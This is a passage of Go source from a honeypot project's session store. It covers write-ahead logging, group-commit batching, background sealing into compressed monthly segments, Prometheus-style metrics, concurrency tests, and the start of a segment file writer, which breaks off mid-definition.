func (s *Store) writeWALHeaderLocked(base uint64) error {
	var h walHeader
	h.Wal.Base = base
	line, err := json.Marshal(h)
	if err != nil {
		return err
	}
	line = append(line, '\n')
	if _, err := s.walW.Write(line); err != nil {
		return err
	}
	if err := s.walW.Flush(); err != nil {
		return err
	}
	if err := s.walF.Sync(); err != nil {
		return err
	}
	s.walSize += int64(len(line))
	return nil
}

// lineScratch pools encode buffers so Append's marshal step allocates
// nothing in steady state.
var lineScratch = sync.Pool{New: func() any { b := make([]byte, 0, 1024); return &b }}

// Append adds one record. The store retains r; callers must not mutate
// it afterwards. The append is group-committed: the record enqueues in
// memory and reaches the WAL within MaxDelay (or sooner, when MaxBatch
// fills), and is durable after the next Flush, periodic sync, or seal —
// the same contract as before group commit: an idle-period crash loses
// at most SyncEvery worth of sessions.
func (s *Store) Append(r *session.Record) error {
	bp := lineScratch.Get().(*[]byte)
	line, err := session.AppendJSON((*bp)[:0], r)
	if err != nil {
		lineScratch.Put(bp)
		return fmt.Errorf("store: marshal: %w", err)
	}

	s.mu.Lock()
	switch {
	case s.closed:
		s.mu.Unlock()
		lineScratch.Put(bp)
		return errors.New("store: closed")
	case s.opts.ReadOnly:
		s.mu.Unlock()
		lineScratch.Put(bp)
		return errors.New("store: read-only")
	case s.walErr != nil:
		err := s.walErr
		s.mu.Unlock()
		lineScratch.Put(bp)
		return err
	case s.sealErr != nil:
		err := s.sealErr
		s.mu.Unlock()
		lineScratch.Put(bp)
		return fmt.Errorf("store: background seal failed (Seal may retry): %w", err)
	}
	sb := s.opts.sealBytes()
	// Backpressure: if appends outrun an in-flight background seal by
	// several seal units, wait for it rather than grow without bound.
	for s.sealing && sb > 0 && s.tailBytes >= 4*sb {
		s.sealCond.Wait()
		if s.closed {
			s.mu.Unlock()
			lineScratch.Put(bp)
			return errors.New("store: closed")
		}
	}
	s.tail = append(s.tail, r)
	s.tailLines = append(s.tailLines, s.internLine(line))
	s.tailBytes += int64(len(line)) + 1
	s.pend++
	kick := s.pend == 1 || s.pend == s.opts.maxBatch()
	needSeal := sb > 0 && !s.sealing && s.tailBytes >= sb
	s.mu.Unlock()
	*bp = line[:0]
	lineScratch.Put(bp)

	s.appended.Add(1)
	select {
	case s.watch <- struct{}{}:
	default:
	}
	if kick {
		select {
		case s.kick <- struct{}{}:
		default:
		}
	}
	if needSeal {
		s.rotateAndSealAsync()
	}
	return nil
}

// internLine copies line plus its WAL newline into the store's arena,
// so tail lines cost one allocation per arena chunk instead of one per
// record, and consecutive pending records form one contiguous byte run
// the flusher writes in a single call. Returns the newline-free line.
// Caller holds mu.
func (s *Store) internLine(line []byte) []byte {
	if cap(s.lineArena)-len(s.lineArena) < len(line)+1 {
		if len(s.pendRun) > 0 { // run cannot continue across chunks
			s.pendRuns = append(s.pendRuns, s.pendRun)
			s.pendRun = nil
		}
		size := 256 << 10
		if len(line)+1 > size {
			size = len(line) + 1
		}
		s.lineArena = make([]byte, 0, size)
	}
	off := len(s.lineArena)
	s.lineArena = append(append(s.lineArena, line...), '\n')
	if len(s.pendRun) == 0 {
		s.pendRun = s.lineArena[off:len(s.lineArena)]
	} else {
		s.pendRun = s.pendRun[:len(s.pendRun)+len(line)+1]
	}
	return s.lineArena[off : len(s.lineArena)-1 : len(s.lineArena)-1]
}

// Sink adapts the store to honeypot.Config.Sink.
func (s *Store) Sink(r *session.Record) error { return s.Append(r) }

// flushLoop is the group-commit flusher: woken by the first append of a
// batch, it lingers up to MaxDelay so later appends can join, then
// writes the whole batch to the WAL in one go.
func (s *Store) flushLoop() {
	defer close(s.flushDone)
	for {
		select {
		case <-s.stop:
			return
		case <-s.kick:
		}
		s.mu.Lock()
		full := s.pend >= s.opts.maxBatch()
		s.mu.Unlock()
		if !full {
			t := time.NewTimer(s.opts.maxDelay())
			select {
			case <-t.C:
			case <-s.kick: // batch filled early
			case <-s.stop:
				t.Stop()
				return
			}
			t.Stop()
		}
		s.walMu.Lock()
		s.mu.Lock()
		if !s.closed {
			_ = s.drainPendingLocked()
		}
		s.mu.Unlock()
		s.walMu.Unlock()
	}
}

// drainPendingLocked writes every not-yet-written tail record to the
// WAL buffer as one batch: the pending bytes already sit newline-
// delimited in the arena, so the whole batch goes out as a handful of
// contiguous runs. Caller holds walMu and mu. On failure the error is
// sticky: the records stay in memory, queryable, but further appends
// fail rather than silently diverge from the WAL.
func (s *Store) drainPendingLocked() error {
	if s.walErr != nil {
		return s.walErr
	}
	n := s.pend
	if n == 0 {
		return nil
	}
	var wrote int64
	for _, run := range s.pendRuns {
		if _, err := s.walW.Write(run); err != nil {
			s.walErr = fmt.Errorf("store: wal write: %w", err)
			return s.walErr
		}
		wrote += int64(len(run))
	}
	if len(s.pendRun) > 0 {
		if _, err := s.walW.Write(s.pendRun); err != nil {
			s.walErr = fmt.Errorf("store: wal write: %w", err)
			return s.walErr
		}
		wrote += int64(len(s.pendRun))
	}
	// Push the batch to the OS now: one syscall per batch keeps the
	// group-commit amortization, and external ReadOnly followers (Follow,
	// hnquery -follow) observe progress without waiting for a sync or
	// seal. Durability is still governed by SyncEvery.
	if err := s.walW.Flush(); err != nil {
		s.walErr = fmt.Errorf("store: wal flush: %w", err)
		return s.walErr
	}
	s.pendRuns = s.pendRuns[:0]
	s.pendRun = nil
	s.pend = 0
	s.walSize += wrote
	s.dirty = true
	s.batchFlushes.Add(1)
	s.batchRecords.Add(int64(n))
	s.batchBytes.Add(wrote)
	return nil
}

// rotateAndSealAsync freezes the current tail for a background seal:
// drain the batch, fsync and rotate the WAL aside, start a fresh WAL
// whose base skips the frozen records, and hand the frozen tail to a
// worker that compresses and commits it off the append path.
func (s *Store) rotateAndSealAsync() {
	s.walMu.Lock()
	s.mu.Lock()
	if s.closed || s.sealing || s.walErr != nil || s.sealErr != nil ||
		len(s.tail) == 0 || s.tailBytes < s.opts.sealBytes() {
		s.mu.Unlock()
		s.walMu.Unlock()
		return
	}
	recs, lines, baseSeq, man, err := s.rotateLocked()
	s.mu.Unlock()
	s.walMu.Unlock()
	if err != nil {
		return // sticky walErr set; appends will surface it
	}
	go s.runSeal(man, recs, lines, baseSeq)
}

// rotateLocked moves the active WAL aside as wal-sealing.jsonl — fully
// written and fsynced, so the frozen records are durable before the
// seal begins — and starts a fresh WAL whose base accounts for them.
// Caller holds walMu and mu; on return tail[:frozen] is the seal's
// input and the returned slices alias it (immutable until the commit
// swaps them out).
func (s *Store) rotateLocked() (recs []*session.Record, lines [][]byte, baseSeq uint64, man *manifest, err error) {
	fail := func(e error) ([]*session.Record, [][]byte, uint64, *manifest, error) {
		s.walErr = fmt.Errorf("store: wal rotate: %w", e)
		return nil, nil, 0, nil, s.walErr
	}
	if err := s.drainPendingLocked(); err != nil {
		return nil, nil, 0, nil, err
	}
	if err := s.walW.Flush(); err != nil {
		return fail(err)
	}
	if err := s.walF.Sync(); err != nil {
		return fail(err)
	}
	if err := s.walF.Close(); err != nil {
		return fail(err)
	}
	if err := os.Rename(filepath.Join(s.dir, walName), filepath.Join(s.dir, walSealingName)); err != nil {
		return fail(err)
	}
	f, err := os.OpenFile(filepath.Join(s.dir, walName), os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return fail(err)
	}
	s.walF = f
	s.walW.Reset(f)
	s.walSize = 0
	s.dirty = false
	s.frozen = len(s.tail)
	s.sealing = true
	s.tailBytes = 0
	if err := s.writeWALHeaderLocked(s.man.NextSeq + uint64(s.frozen)); err != nil {
		s.frozen = 0
		s.sealing = false
		return fail(err)
	}
	if err := syncDir(s.dir); err != nil {
		s.frozen = 0
		s.sealing = false
		return fail(err)
	}
	return s.tail[:s.frozen], s.tailLines[:s.frozen], s.man.NextSeq, s.man, nil
}

// runSeal is the background seal worker: it compresses the frozen tail
// into segments (blocks in parallel), commits the manifest, and swaps
// the sealed prefix out of memory. On failure the error is sticky and
// the frozen WAL stays on disk: a later Seal retries inline, and a
// crash recovers through the frozen-WAL chain.
func (s *Store) runSeal(man *manifest, recs []*session.Record, lines [][]byte, baseSeq uint64) {
	newMan, err := s.buildSegments(man, recs, lines, baseSeq)
	if err != nil {
		s.mu.Lock()
		s.sealErr = err
		s.sealing = false
		s.frozen = 0 // tail[:frozen] is still unsealed tail; seqs are unchanged
		s.sealCond.Broadcast()
		s.mu.Unlock()
		return
	}
	s.mu.Lock()
	s.man = newMan
	s.tail = append([]*session.Record(nil), s.tail[s.frozen:]...)
	s.tailLines = append([][]byte(nil), s.tailLines[s.frozen:]...)
	s.frozen = 0
	s.sealsTotal.Add(1)
	s.sealBackground.Add(1)
	// Keep `sealing` set while the frozen WAL is removed, so no new
	// rotation can reuse the name mid-removal.
	s.mu.Unlock()
	err = os.Remove(filepath.Join(s.dir, walSealingName))
	s.mu.Lock()
	if err != nil && !os.IsNotExist(err) {
		s.sealErr = err
	}
	s.sealing = false
	s.sealCond.Broadcast()
	s.mu.Unlock()
}

// Seal folds every unsealed record into immutable per-month segments
// and commits them through the manifest, synchronously: when it
// returns, the tail is empty. It waits out any in-flight background
// seal first, and retries the work of a failed one. A no-op on an
// empty tail.
func (s *Store) Seal() error {
	s.walMu.Lock()
	defer s.walMu.Unlock()
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed || s.opts.ReadOnly {
		return errors.New("store: closed or read-only")
	}
	for s.sealing {
		s.sealCond.Wait()
	}
	if s.closed {
		return errors.New("store: closed")
	}
	return s.sealLocked()
}

// sealLocked seals the whole tail inline. Caller holds walMu and mu,
// with no background seal in flight. It also completes the recovery
// from a failed background seal: the frozen WAL file (if any) is
// removed once its records are committed, and sealErr is cleared.
func (s *Store) sealLocked() error {
	if err := s.drainPendingLocked(); err != nil {
		return err
	}
	if err := s.syncWALLocked(); err != nil {
		return err
	}
	if len(s.tail) == 0 {
		return nil
	}
	newMan, err := s.buildSegments(s.man, s.tail, s.tailLines, s.man.NextSeq)
	if err != nil {
		return err
	}

	// The manifest now owns the records: reset the WAL under the new
	// base. A crash before this point replays the WAL (and the frozen
	// WAL, if a failed background seal left one); after the manifest
	// commit, leftover WALs are detected as stale and dropped.
	if err := s.walF.Close(); err != nil {
		return err
	}
	f, err := os.OpenFile(filepath.Join(s.dir, walName), os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	s.walF = f
	s.walW.Reset(f)
	s.walSize = 0
	s.dirty = false
	s.man = newMan
	s.tail = nil // cursors holding the old tail keep their snapshot
	s.tailLines = nil
	s.lineArena = nil
	s.tailBytes = 0
	s.sealsTotal.Add(1)
	if s.sealErr != nil { // the failed background seal's records are now committed
		s.sealErr = nil
		if err := os.Remove(filepath.Join(s.dir, walSealingName)); err != nil && !os.IsNotExist(err) {
			return err
		}
	}
	return s.writeWALHeaderLocked(newMan.NextSeq)
}

// buildSegments writes one segment per month of recs (seqs start at
// baseSeq) and returns the manifest — already saved and durable — that
// commits them. It does not touch store state: callers swap the result
// in under mu.
func (s *Store) buildSegments(man *manifest, recs []*session.Record, lines [][]byte, baseSeq uint64) (*manifest, error) {
	// Partition by month (keyed year*12+month — cheaper to hash than a
	// time.Time), preserving append order within each.
	byMonth := map[int][]int32{}
	var months []int
	for i, r := range recs {
		y, mo, _ := r.Start.Date()
		k := y*12 + int(mo)
		if _, ok := byMonth[k]; !ok {
			months = append(months, k)
		}
		byMonth[k] = append(byMonth[k], int32(i))
	}
	sort.Ints(months)

	newMan := &manifest{
		Version:  manifestVersion,
		NextSeg:  man.NextSeg,
		NextSeq:  baseSeq + uint64(len(recs)),
		Segments: append([]*segmentMeta(nil), man.Segments...),
	}
	var files []string
	for _, m := range months {
		file := segFileName(newMan.NextSeg)
		meta, err := s.writeSegment(file, recs, lines, byMonth[m], baseSeq)
		if err != nil {
			removeAll(s.dir, files, file)
			return nil, err
		}
		newMan.NextSeg++
		newMan.Segments = append(newMan.Segments, meta)
		files = append(files, file)
	}
	if err := syncDir(s.dir); err != nil {
		removeAll(s.dir, files, "")
		return nil, err
	}
	if err := newMan.save(s.dir); err != nil {
		removeAll(s.dir, files, "")
		return nil, err
	}
	// Keep seal scratch warm between seals, but not arbitrarily large:
	// a one-off huge seal should not pin its working set forever.
	if cap(s.sealFrames) > 4<<20 {
		s.sealFrames = nil
	}
	return newMan, nil
}

// removeAll deletes the named segment files plus one extra (a partial
// write), best-effort, after a failed seal.
func removeAll(dir string, files []string, extra string) {
	if extra != "" {
		files = append(files, extra)
	}
	for _, f := range files {
		os.Remove(filepath.Join(dir, f))
	}
}

// Flush pushes every enqueued append to stable storage: the pending
// group-commit batch is written and the WAL fsynced.
func (s *Store) Flush() error {
	s.walMu.Lock()
	defer s.walMu.Unlock()
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed || s.opts.ReadOnly {
		return nil
	}
	if err := s.drainPendingLocked(); err != nil {
		return err
	}
	return s.syncWALLocked()
}

// syncWALLocked flushes the WAL buffer and fsyncs the file. Caller
// holds walMu and mu.
func (s *Store) syncWALLocked() error {
	if err := s.walW.Flush(); err != nil {
		return err
	}
	if err := s.walF.Sync(); err != nil {
		return err
	}
	s.dirty = false
	return nil
}

// Close seals any unsealed tail and releases the store. Further
// appends fail; open cursors keep working over their snapshots.
func (s *Store) Close() error {
	s.walMu.Lock()
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		s.walMu.Unlock()
		return nil
	}
	var err error
	if !s.opts.ReadOnly {
		for s.sealing {
			s.sealCond.Wait()
		}
		err = s.sealLocked()
		if cerr := s.walF.Close(); err == nil {
			err = cerr
		}
	}
	s.closed = true
	s.sealCond.Broadcast()
	stop, done, flushDone := s.stop, s.done, s.flushDone
	s.mu.Unlock()
	s.walMu.Unlock()
	if stop != nil {
		close(stop)
		<-flushDone
		if done != nil {
			<-done
		}
	}
	return err
}

// syncLoop periodically drains the batch and fsyncs dirty WAL data,
// mirroring sessionlog: an idle-period crash loses at most SyncEvery
// worth of sessions.
func (s *Store) syncLoop(every time.Duration) {
	defer close(s.done)
	t := time.NewTicker(every)
	defer t.Stop()
	for {
		select {
		case <-s.stop:
			return
		case <-t.C:
			s.walMu.Lock()
			s.mu.Lock()
			if !s.closed && (s.dirty || s.pend > 0) {
				_ = s.drainPendingLocked()
				_ = s.syncWALLocked()
			}
			s.mu.Unlock()
			s.walMu.Unlock()
		}
	}
}

// snapshot returns a consistent (manifest, tail) view for queries. The
// manifest is copy-on-write and the tail slice is capacity-clamped, so
// later appends and seals cannot disturb the holder.
func (s *Store) snapshot() (*manifest, []*session.Record) {
	s.mu.RLock()
	man, tail := s.man, s.tail[:len(s.tail):len(s.tail)]
	s.mu.RUnlock()
	return man, tail
}

// Len returns the total record count (sealed + unsealed).
func (s *Store) Len() int {
	man, tail := s.snapshot()
	n := len(tail)
	for _, seg := range man.Segments {
		n += seg.Records
	}
	return n
}

// Segments returns the number of sealed segment files.
func (s *Store) Segments() int {
	man, _ := s.snapshot()
	return len(man.Segments)
}

// CompressedBytes returns the total compressed size of sealed blocks.
func (s *Store) CompressedBytes() int64 {
	man, _ := s.snapshot()
	var n int64
	for _, seg := range man.Segments {
		n += seg.CompBytes
	}
	return n
}

// RecoveredBytes returns the torn-tail bytes truncated from the WAL
// when the store was opened.
func (s *Store) RecoveredBytes() int64 { return s.recoveredBytes.Load() }

// sealWorkers resolves the compression worker count for one seal.
func (s *Store) sealWorkers(blocks int) int {
	w := parallel.Workers(s.opts.SealWorkers)
	if w > blocks {
		w = blocks
	}
	if w < 1 {
		w = 1
	}
	return w
}

// Register exposes the store's counters and gauges on reg:
//
//	honeynet_store_records
//	honeynet_store_segments
//	honeynet_store_compressed_bytes
//	honeynet_store_seals_total
//	honeynet_store_seal_background_total
//	honeynet_store_seal_blocks_total
//	honeynet_store_batch_flushes_total
//	honeynet_store_batch_records_total
//	honeynet_store_batch_bytes_total
//	honeynet_store_appended_total
//	honeynet_store_blocks_read_total
//	honeynet_store_bloom_checks_total
//	honeynet_store_bloom_skips_total
//	honeynet_store_recovered_bytes
//	honeynet_store_stale_wal_drops_total
//	honeynet_query_total
//	honeynet_query_meta_only_total
//	honeynet_query_segments_pruned_total
//	honeynet_query_blocks_skipped_total
func (s *Store) Register(reg *obs.Registry) {
	reg.GaugeFunc("honeynet_store_records",
		"Session records held by the store (sealed + unsealed).",
		func() float64 { return float64(s.Len()) })
	reg.GaugeFunc("honeynet_store_segments",
		"Sealed immutable segment files in the store.",
		func() float64 { return float64(s.Segments()) })
	reg.GaugeFunc("honeynet_store_compressed_bytes",
		"Compressed bytes across all sealed segment blocks.",
		func() float64 { return float64(s.CompressedBytes()) })
	reg.CounterFunc("honeynet_store_seals_total",
		"WAL-to-segment seal operations completed.", s.sealsTotal.Load)
	reg.CounterFunc("honeynet_store_seal_background_total",
		"Seals completed by the background worker, off the append path.", s.sealBackground.Load)
	reg.CounterFunc("honeynet_store_seal_blocks_total",
		"Segment blocks compressed by seals.", s.sealBlocks.Load)
	reg.CounterFunc("honeynet_store_batch_flushes_total",
		"Group-commit batches written to the WAL.", s.batchFlushes.Load)
	reg.CounterFunc("honeynet_store_batch_records_total",
		"Records written to the WAL via group-commit batches.", s.batchRecords.Load)
	reg.CounterFunc("honeynet_store_batch_bytes_total",
		"WAL bytes written via group-commit batches.", s.batchBytes.Load)
	reg.CounterFunc("honeynet_store_appended_total",
		"Records appended to the store.", s.appended.Load)
	reg.CounterFunc("honeynet_store_blocks_read_total",
		"Compressed blocks read and verified by queries.", s.blocksRead.Load)
	reg.CounterFunc("honeynet_store_bloom_checks_total",
		"Segment Bloom-filter membership checks by IP-scoped scans.", s.bloomChecks.Load)
	reg.CounterFunc("honeynet_store_bloom_skips_total",
		"Segments skipped entirely because the Bloom filter excluded the IP.", s.bloomSkips.Load)
	reg.GaugeFunc("honeynet_store_recovered_bytes",
		"Torn-tail WAL bytes truncated away when the store was opened.",
		func() float64 { return float64(s.RecoveredBytes()) })
	reg.CounterFunc("honeynet_store_stale_wal_drops_total",
		"Stale WALs (already sealed before a crash) discarded on open.", s.staleWALDrops.Load)
	reg.CounterFunc("honeynet_query_total",
		"Structured queries executed via RunQuery (including shims).", s.queriesTotal.Load)
	reg.CounterFunc("honeynet_query_meta_only_total",
		"Queries answered entirely from sealed metadata: zero block reads.", s.queryMetaOnly.Load)
	reg.CounterFunc("honeynet_query_segments_pruned_total",
		"Segments skipped by query pushdown (time bounds + Bloom filters).", s.querySegsPruned.Load)
	reg.CounterFunc("honeynet_query_blocks_skipped_total",
		"Compressed blocks never read because pushdown skipped their segment.", s.queryBlocksSkipped.Load)
}
