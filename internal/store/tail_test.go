package store

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/session"
)

// TestSeqStreamUnderConcurrentSeal is the replication surface's race
// test: NextSeq, Watch, and ScanSeq hammered while a writer appends
// with aggressive auto-sealing, so every cursor straddles seals in
// flight. Run with -race this is primarily a data-race detector; the
// assertions check the drain-then-recheck contract (no sequence ever
// missed, no line ever corrupt).
func TestSeqStreamUnderConcurrentSeal(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: 4 << 10, SyncEvery: -1, MaxDelay: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()

	const n = 3000
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < n; i++ {
			if err := s.Append(mkRecord(i%3, i)); err != nil {
				t.Errorf("append %d: %v", i, err)
				return
			}
		}
	}()

	// Reader 1: watch-driven incremental scans (the fleet forwarder's
	// loop), verifying dense sequences and parseable lines.
	wg.Add(1)
	go func() {
		defer wg.Done()
		w := s.Watch()
		var next uint64
		for next < n {
			c := s.ScanSeq(next)
			for c.Next() {
				if c.Seq() != next {
					t.Errorf("sequence gap: got %d, want %d", c.Seq(), next)
					c.Close()
					return
				}
				var r session.Record
				if err := session.DecodeJSON(c.Line(), &r); err != nil {
					t.Errorf("seq %d: bad line: %v", c.Seq(), err)
					c.Close()
					return
				}
				next = c.Seq() + 1
			}
			if err := c.Err(); err != nil {
				t.Errorf("scan: %v", err)
				c.Close()
				return
			}
			c.Close()
			if s.NextSeq() > next {
				continue
			}
			select {
			case <-w:
			case <-time.After(5 * time.Second):
				t.Errorf("watch starved at seq %d", next)
				return
			}
		}
	}()

	// Reader 2: cold scans from random-ish offsets while seals churn.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 40; i++ {
			from := uint64(i * 37)
			c := s.ScanSeq(from)
			want := from
			for c.Next() {
				if c.Seq() != want {
					t.Errorf("cold scan from %d: got %d, want %d", from, c.Seq(), want)
					c.Close()
					return
				}
				want++
			}
			if err := c.Err(); err != nil {
				t.Errorf("cold scan: %v", err)
			}
			c.Close()
		}
	}()

	// Reader 3: NextSeq must be monotonic under concurrent appends+seals.
	wg.Add(1)
	go func() {
		defer wg.Done()
		var prev uint64
		for i := 0; i < 5000; i++ {
			if ns := s.NextSeq(); ns < prev {
				t.Errorf("NextSeq went backwards: %d after %d", ns, prev)
				return
			} else {
				prev = ns
			}
		}
	}()

	wg.Wait()
	if got := s.NextSeq(); got != n {
		t.Fatalf("NextSeq = %d, want %d", got, n)
	}
}

// TestTailStreamsLiveAppends: Tail must deliver history, then block and
// deliver new appends, across a seal boundary, in dense order.
func TestTailStreamsLiveAppends(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < 50; i++ {
		if err := s.Append(mkRecord(0, i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	const total = 120
	var got atomic.Uint64
	done := make(chan error, 1)
	go func() {
		done <- s.Tail(ctx, 0, func(seq uint64, line []byte) error {
			if seq != got.Load() {
				return errors.New("gap")
			}
			var r session.Record
			if err := session.DecodeJSON(line, &r); err != nil {
				return err
			}
			got.Store(seq + 1)
			if seq == total-1 {
				cancel()
			}
			return nil
		})
	}()

	for i := 50; i < total; i++ {
		if err := s.Append(mkRecord(0, i)); err != nil {
			t.Fatal(err)
		}
		if i == 80 {
			if err := s.Seal(); err != nil {
				t.Fatal(err)
			}
		}
	}
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("Tail returned %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatalf("Tail hung at seq %d", got.Load())
	}
	if got.Load() != total {
		t.Fatalf("tailed %d records, want %d", got.Load(), total)
	}
}

// TestTailPropagatesCallbackError: fn's error must abort and surface.
func TestTailPropagatesCallbackError(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.Append(mkRecord(0, 1)); err != nil {
		t.Fatal(err)
	}
	sentinel := errors.New("stop here")
	err = s.Tail(context.Background(), 0, func(uint64, []byte) error { return sentinel })
	if !errors.Is(err, sentinel) {
		t.Fatalf("Tail returned %v, want sentinel", err)
	}
}

// TestFollowSingleStore tails a store written by "another process"
// (a separate writable handle on the same dir).
func TestFollowSingleStore(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < 30; i++ {
		if err := s.Append(mkRecord(0, i)); err != nil {
			t.Fatal(err)
		}
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var mu sync.Mutex
	var seqs []uint64
	done := make(chan error, 1)
	go func() {
		done <- Follow(ctx, dir, Options{}, 20*time.Millisecond, func(node string, seq uint64, line []byte) error {
			if node != "" {
				return errors.New("single store yielded node " + node)
			}
			mu.Lock()
			seqs = append(seqs, seq)
			n := len(seqs)
			mu.Unlock()
			if n == 60 {
				cancel()
			}
			return nil
		})
	}()

	// Keep writing (with a seal) while the follower polls.
	for i := 30; i < 60; i++ {
		if err := s.Append(mkRecord(0, i)); err != nil {
			t.Fatal(err)
		}
		if i == 45 {
			if err := s.Seal(); err != nil {
				t.Fatal(err)
			}
		}
	}
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("Follow returned %v", err)
		}
	case <-time.After(15 * time.Second):
		mu.Lock()
		t.Fatalf("Follow hung after %d records", len(seqs))
	}
	for i, seq := range seqs {
		if seq != uint64(i) {
			t.Fatalf("seqs[%d] = %d — not dense", i, seq)
		}
	}
}

// TestFollowFleetDiscoversShards: a fleet follower must pick up shards
// that appear after it started.
func TestFollowFleetDiscoversShards(t *testing.T) {
	dir := t.TempDir()
	if err := WriteFleetMarker(dir); err != nil {
		t.Fatal(err)
	}
	openShard := func(node string) *Store {
		s, err := Open(ShardDir(dir, node), Options{SealBytes: -1, SyncEvery: -1})
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	a := openShard("edge-a")
	defer a.Close()
	for i := 0; i < 10; i++ {
		if err := a.Append(mkRecord(0, i)); err != nil {
			t.Fatal(err)
		}
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var mu sync.Mutex
	counts := map[string]int{}
	done := make(chan error, 1)
	go func() {
		done <- Follow(ctx, dir, Options{}, 20*time.Millisecond, func(node string, seq uint64, line []byte) error {
			mu.Lock()
			counts[node]++
			full := counts["edge-a"] == 10 && counts["edge-b"] == 5
			mu.Unlock()
			if full {
				cancel()
			}
			return nil
		})
	}()

	// Second shard appears mid-follow.
	time.Sleep(50 * time.Millisecond)
	b := openShard("edge-b")
	defer b.Close()
	for i := 0; i < 5; i++ {
		if err := b.Append(mkRecord(1, i)); err != nil {
			t.Fatal(err)
		}
	}
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("Follow returned %v", err)
		}
	case <-time.After(15 * time.Second):
		mu.Lock()
		t.Fatalf("Follow hung with counts %v", counts)
	}
}

// TestSealingHelper: the mid-seal marker probe.
func TestSealingHelper(t *testing.T) {
	dir := t.TempDir()
	if Sealing(dir) {
		t.Fatal("empty dir reported as sealing")
	}
	if err := os.WriteFile(filepath.Join(dir, walSealingName), []byte("{}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if !Sealing(dir) {
		t.Fatal("wal-sealing.jsonl present but Sealing() false")
	}
}
