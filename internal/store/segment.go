package store

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"time"

	"honeynet/internal/session"
)

// Segment file layout: an 8-byte magic followed by back-to-back
// flate-compressed blocks. Each block's uncompressed payload is a run
// of entries — uvarint(seq), uvarint(len), record JSON — and the block
// index (offsets, lengths, counts, CRCs) lives in the manifest, so a
// reader never parses a segment blind. Segments are immutable once the
// manifest references them.

var segMagic = [8]byte{'H', 'N', 'S', 'T', 'O', 'R', 'E', '1'}

// segFileName names segment n.
func segFileName(n int) string { return fmt.Sprintf("seg-%06d.hns", n) }

// writeSegment seals one month's records (with their global append
// sequences) into a new segment file and returns its metadata. The file
// is fsynced before return; the caller commits it via the manifest.
func writeSegment(dir, file string, recs []*session.Record, seqs []uint64, blockBytes int) (*segmentMeta, error) {
	f, err := os.OpenFile(filepath.Join(dir, file), os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	if _, err := f.Write(segMagic[:]); err != nil {
		return nil, err
	}

	meta := &segmentMeta{
		File:   file,
		Month:  recs[0].Month().Format(monthLayout),
		MinSeq: seqs[0],
		MaxSeq: seqs[len(seqs)-1],
		Bloom:  newBloom(len(recs)),
	}
	var (
		payload bytes.Buffer
		comp    bytes.Buffer
		fw, _   = flate.NewWriter(&comp, flate.DefaultCompression)
		off     = int64(len(segMagic))
		count   int
		varint  [binary.MaxVarintLen64]byte
	)
	flush := func() error {
		if payload.Len() == 0 {
			return nil
		}
		comp.Reset()
		fw.Reset(&comp)
		if _, err := fw.Write(payload.Bytes()); err != nil {
			return err
		}
		if err := fw.Close(); err != nil {
			return err
		}
		if _, err := f.Write(comp.Bytes()); err != nil {
			return err
		}
		meta.Blocks = append(meta.Blocks, blockMeta{
			Off:   off,
			CLen:  comp.Len(),
			ULen:  payload.Len(),
			Count: count,
			CRC:   crc32.ChecksumIEEE(comp.Bytes()),
		})
		off += int64(comp.Len())
		meta.RawBytes += int64(payload.Len())
		meta.CompBytes += int64(comp.Len())
		payload.Reset()
		count = 0
		return nil
	}

	for i, r := range recs {
		line, err := json.Marshal(r)
		if err != nil {
			return nil, fmt.Errorf("store: marshal record seq %d: %w", seqs[i], err)
		}
		n := binary.PutUvarint(varint[:], seqs[i])
		payload.Write(varint[:n])
		n = binary.PutUvarint(varint[:], uint64(len(line)))
		payload.Write(varint[:n])
		payload.Write(line)
		count++

		meta.Records++
		meta.Kinds[r.Kind()]++
		switch r.Protocol {
		case session.ProtoSSH:
			meta.SSH++
		case session.ProtoTelnet:
			meta.Telnet++
		}
		meta.Bloom.Add(r.ClientIP)
		if meta.MinTime.IsZero() || r.Start.Before(meta.MinTime) {
			meta.MinTime = r.Start
		}
		if r.Start.After(meta.MaxTime) {
			meta.MaxTime = r.Start
		}

		if payload.Len() >= blockBytes {
			if err := flush(); err != nil {
				return nil, err
			}
		}
	}
	if err := flush(); err != nil {
		return nil, err
	}
	if err := f.Sync(); err != nil {
		return nil, err
	}
	return meta, nil
}

// blockReader streams one segment's records block by block: one
// compressed block and one uncompressed payload are resident at a time,
// so peak memory is bounded by the block size, not the segment (let
// alone the dataset). Buffers are reused across blocks.
type blockReader struct {
